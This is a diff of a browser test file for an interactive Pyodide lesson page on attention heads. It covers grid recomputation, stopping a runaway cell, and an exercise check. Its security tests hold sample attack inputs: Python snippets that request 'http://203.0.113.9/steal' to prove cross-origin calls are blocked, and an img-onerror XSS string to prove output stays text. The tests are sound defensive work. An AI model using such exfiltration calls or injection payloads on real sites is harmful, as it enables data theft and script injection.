@@ -1,7 +1,11 @@
-"""Chapter 2 in Chromium: the stepper's shapes, editing the heads, live cells, the exercise, Python kept off the network."""
+"""Chapter 2 in Chromium: the stepper's shapes, editing the heads, live cells, the exercise,
+Python kept off the network."""
+
+import re
 
 import pytest
 from conftest import open_ready
+from playwright.sync_api import expect
 
 from toymodels.page import cells
 from toymodels.page.html import tenths
@@ -36,17 +40,20 @@ def test_stepper_shows_each_step_with_its_shapes(page, base_url):
     assert (
         page.locator("#split-attend table:nth-of-type(2) td.hl").count() == 4
     )  # row "the" of C: both heads' numbers
-    page.watch.clean()
 
 
-def grid_shares(page, head, row):
-    tips = (
+def grid_tips(page, head, row):
+    """The tips of one row of a head's grid that give a share ("“a” → “b”: 12.5%")."""
+    return (
         page.locator(f"#split-attend table.mh-grid[data-head='{head}'] tbody tr")
         .nth(row)
         .locator("td .tip")
-        .all_text_contents()
+        .filter(has_not_text="cannot see")
     )
-    return [t.rsplit(": ", 1)[1] for t in tips if "cannot see" not in t]
+
+
+def grid_shares(page, head, row):
+    return [t.rsplit(": ", 1)[1] for t in grid_tips(page, head, row).all_text_contents()]
 
 
 def test_editing_a_head_recomputes_its_grid_like_cpython(page, base_url):
@@ -61,10 +68,8 @@ def test_editing_a_head_recomputes_its_grid_like_cpython(page, base_url):
     heads[1][1][0, 0], heads[1][1][1, 0] = 0.0, 3.0
     want = sa.forward(words, heads)["weights"][1, 5]
     expected = [f"{t // 10}.{t % 10}%" for t in tenths(want)]
-    for _ in range(50):
-        if grid_shares(page, 2, 5) == expected:
-            break
-        page.wait_for_timeout(100)
+    # the grid is redrawn when Python answers: wait until its tips end in the expected shares
+    expect(grid_tips(page, 2, 5)).to_have_text([re.compile(f": {re.escape(e)}$") for e in expected])
     assert grid_shares(page, 2, 5) == expected
     assert page.get_by_role("button", name="As designed").get_attribute("aria-pressed") == "false"
     page.get_by_role("button", name="Heads swapped").click()
@@ -73,7 +78,6 @@ def test_editing_a_head_recomputes_its_grid_like_cpython(page, base_url):
         f"{t // 10}.{t % 10}%"
         for t in tenths(sa.forward(words, sa.PRESETS["swapped"])["weights"][0, 5])
     ]
-    page.watch.clean()
 
 
 def run_cell(page, index):
@@ -102,17 +106,20 @@ def test_cells_run_like_the_build_and_show_tracebacks(page, base_url, site):
     )
     cell.get_by_role("button", name="Reset").click()
     assert box.input_value() == codes[1]
-    page.watch.clean()
+
+
+LOOP = "import js\njs.console.log('looping')\nwhile True:\n    pass"
 
 
 def test_an_endless_loop_can_be_stopped(page, base_url):
     open_ready(page, base_url + CHAPTER)
     cell = page.locator("[data-cell]").first
-    cell.locator("textarea").fill("while True:\n    pass")
-    cell.get_by_role("button", name="Run").click()
+    # the loop says on the worker's console that it has begun, so Stop ends a loop that runs,
+    # not a call still on its way to Python
+    cell.locator("textarea").fill(LOOP)
+    with page.context.expect_console_message(lambda m: m.text == "looping"):
+        cell.get_by_role("button", name="Run").click()
     stop = cell.get_by_role("button", name="Stop")
-    stop.wait_for()
-    page.wait_for_timeout(500)
     stop.click()
     cell.locator("pre.quiet:has-text('Stopped.')").wait_for()
     cell.get_by_role("button", name="Reset").click()
@@ -120,7 +127,6 @@ def test_an_endless_loop_can_be_stopped(page, base_url):
     cell.locator("pre.value").wait_for(timeout=90_000)
     assert cell.locator("pre.value").inner_text().startswith("array([[1.")
     step(page, "concat")  # the figures work again on the new worker
-    page.watch.clean()
 
 
 def test_exercise_reports_the_check(page, base_url):
@@ -147,13 +153,13 @@ def test_exercise_reports_the_check(page, base_url):
     assert (
         "W_Q2 = np.array([[5., 0.]" in page.locator(".mh-exercise textarea").input_value()
     )  # the edit was kept
-    page.watch.clean()
 
 
 @pytest.mark.parametrize(
     "code",
     [
-        "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\nx.open('GET', 'http://203.0.113.9/steal', False)\nx.send()",
+        "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\nx.open('GET', "
+        "'http://203.0.113.9/steal', False)\nx.send()",
         "from pyodide.http import open_url\nopen_url('http://203.0.113.9/steal')",
     ],
 )
@@ -168,7 +174,6 @@ def test_python_in_the_page_cannot_reach_another_origin(page, base_url, code):
         in cell.locator("pre.error").inner_text()
     )
     assert page.watch.foreign == []
-    page.watch.clean()
 
 
 XSS = '<img src=x onerror="window.__xss=1">'
@@ -192,4 +197,3 @@ def test_cell_output_and_url_state_stay_text(page, base_url):
         page.locator("[data-cell] img, #split-attend img").count() == 0
         and page.evaluate("window.__xss") is None
     )
-    page.watch.clean()
